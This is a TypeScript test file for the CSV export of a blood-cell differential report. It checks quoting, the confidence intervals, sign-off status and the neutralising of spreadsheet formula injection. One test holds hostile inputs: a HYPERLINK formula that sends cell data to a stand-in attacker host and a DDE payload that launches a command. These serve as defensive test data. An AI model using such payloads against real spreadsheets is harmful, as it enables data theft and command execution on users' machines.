import { describe, it, expect } from 'vitest'
import { differentialToCsv } from '../../../../src/main/export/report'
import { sampleReport } from './fixtures'

/** Minimal RFC 4180 reader, written for the test so the export is read back, not compared with itself. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (ch === '"') quoted = false
      else field += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      row.push(field)
      field = ''
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field)
      rows.push(row)
      row = []
      field = ''
      i++
    } else field += ch
  }
  return rows
}

describe('CSV export', () => {
  it('has a header block then one row per class with count, percent and CI', () => {
    const rows = parseCsv(differentialToCsv(sampleReport(true)))
    const header = new Map(rows.slice(0, rows.findIndex((r) => r.length === 1 && r[0] === '')).map((r) => [r[0], r[1]]))
    expect(header.get('sample_id')).toBe('S-2026-0042')
    expect(header.get('order_id')).toBe('ORD|77^A')
    expect(header.get('status')).toBe('final')
    expect(header.get('total_counted')).toBe('100')
    expect(header.get('reviewer')).toBe('Dr. Lee | Haematology')
    const table = rows.slice(rows.findIndex((r) => r[0] === 'class'))
    expect(table[0]).toEqual(['class', 'count', 'percent', 'ci_low', 'ci_high', 'percent_reference', 'percent_flag', 'absolute_x10e9_per_l', 'absolute_reference', 'absolute_flag'])
    // CIs from SciPy beta.ppf for 58/100, 1/100 (rounded to one decimal); no lab results in this report: the range columns stay empty.
    expect(table[1]).toEqual(['neutrophil', '58', '58.0', '47.7', '67.8', '', '', '', '', ''])
    expect(table.find((r) => r[0] === 'basophil')).toEqual(['basophil', '1', '1.0', '0.0', '5.4', '', '', '', '', ''])
    expect(table.map((r) => r[0]).slice(1)).toEqual(['neutrophil', 'eosinophil', 'basophil', 'lymphocyte', 'monocyte', 'smudge'])
  })

  it('says preliminary and leaves the sign-off empty when unsigned', () => {
    const rows = parseCsv(differentialToCsv(sampleReport(false)))
    expect(rows.find((r) => r[0] === 'status')?.[1]).toBe('preliminary')
    expect(rows.find((r) => r[0] === 'reviewer')?.[1]).toBe('')
  })

  it('quotes fields with commas, quotes and line breaks', () => {
    const report = sampleReport(false)
    report.comments = ['He said "recheck", then left\nearly']
    const rows = parseCsv(differentialToCsv(report))
    expect(rows.filter((r) => r[0] === 'comment').map((r) => r[1])).toEqual(['He said "recheck", then left\nearly'])
  })

  it('neutralises sample ids, comments and names a spreadsheet would run as formulas', () => {
    const report = sampleReport(true)
    report.sample.sampleId = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    report.comments = ['@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '\t=1']
    report.signOff = { ...report.signOff!, reviewer: '+Dr. Lee' }
    const rows = parseCsv(differentialToCsv(report))
    expect(rows.find((r) => r[0] === 'sample_id')?.[1]).toBe(`'${report.sample.sampleId}`)
    expect(rows.find((r) => r[0] === 'reviewer')?.[1]).toBe("'+Dr. Lee")
    expect(rows.filter((r) => r[0] === 'comment').map((r) => r[1])).toEqual(report.comments.map((c) => `'${c}`))
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })
})
